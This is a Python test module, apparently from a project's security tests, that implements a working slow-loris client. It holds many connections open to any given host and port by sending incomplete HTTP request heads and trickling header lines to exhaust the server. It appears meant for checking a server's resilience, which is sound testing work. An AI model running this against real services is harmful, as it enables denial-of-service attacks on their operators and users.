"""A slow-loris client for tests: ``python -m tests.security.slowloris HOST PORT N SECONDS``.

Keeps N connections open to HOST:PORT, each having sent only part of a request head
(``GET /healthz HTTP/1.1`` and a header line, never the blank line that ends it), and
trickles one more header line on each every second; a connection the server closes is
replaced at once. Prints one JSON line at the end: connections opened, closed by the
server, and the most held at once.
"""

from __future__ import annotations

import json
import resource
import selectors
import socket
import sys
import time


def main(host: str, port: int, count: int, seconds: float) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 256), hard))
    sel = selectors.DefaultSelector()
    opened = closed = held_max = 0
    conns: set[socket.socket] = set()

    def connect() -> None:
        nonlocal opened
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, port))
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, "new")
        conns.add(s)
        opened += 1

    end = time.monotonic() + seconds
    next_trickle = time.monotonic() + 1
    while time.monotonic() < end:
        while len(conns) < count:
            connect()
        held_max = max(held_max, len(conns))
        for key, events in sel.select(timeout=0.05):
            s = key.fileobj
            assert isinstance(s, socket.socket)
            if events & selectors.EVENT_READ or (key.data == "new" and s.getsockopt(
                    socket.SOL_SOCKET, socket.SO_ERROR)):
                try:
                    gone = not s.recv(4096)
                except OSError:
                    gone = True
                if gone:
                    sel.unregister(s)
                    s.close()
                    conns.discard(s)
                    closed += 1
                    continue
            if key.data == "new" and events & selectors.EVENT_WRITE:
                try:
                    s.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
                except OSError:
                    continue
                sel.modify(s, selectors.EVENT_READ, "sent")
        if time.monotonic() >= next_trickle:
            next_trickle += 1
            for s in list(conns):
                try:
                    s.send(b"X-a: b\r\n")
                except OSError:
                    pass
    print(json.dumps({"opened": opened, "closed_by_server": closed, "held_max": held_max}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
